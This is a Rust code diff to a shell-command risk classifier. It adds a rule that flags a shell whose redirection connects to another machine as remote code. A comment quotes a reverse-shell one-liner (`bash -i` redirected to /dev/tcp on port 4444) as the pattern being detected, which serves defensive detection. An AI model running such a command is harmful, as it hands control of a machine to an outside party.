@@ -364,13 +364,7 @@ impl<'a> Judge<'a> {
         }
         self.job_pids
             .extend(environment::job_pid_variable(&segment.words));
-        for (target, writes) in &segment.redirections {
-            let role = if *writes { Role::Change } else { Role::Read };
-            if *writes {
-                facts.classes.insert(Class::Write);
-            }
-            facts.files.push(self.file(target, cwd.as_deref(), role));
-        }
+        let connects_out = self.redirections(segment, cwd.as_deref(), &mut facts);
 
         let loaded_before = self.secrets_loaded;
         let Unwrapped {
@@ -384,6 +378,15 @@ impl<'a> Judge<'a> {
             words = named;
         }
         self.run_written(words, cwd.as_deref(), nesting);
+        // A shell whose input or output is a connection to another machine is a shell for
+        // whoever is at the other end (`bash -i >& /dev/tcp/HOST/4444 0>&1`).
+        if connects_out
+            && words
+                .first()
+                .is_some_and(|first| !first.dynamic && SHELLS.contains(&basename(&first.text)))
+        {
+            facts.classes.insert(Class::RemoteCode);
+        }
         let mut moved = None;
         match words.split_first() {
             None => {
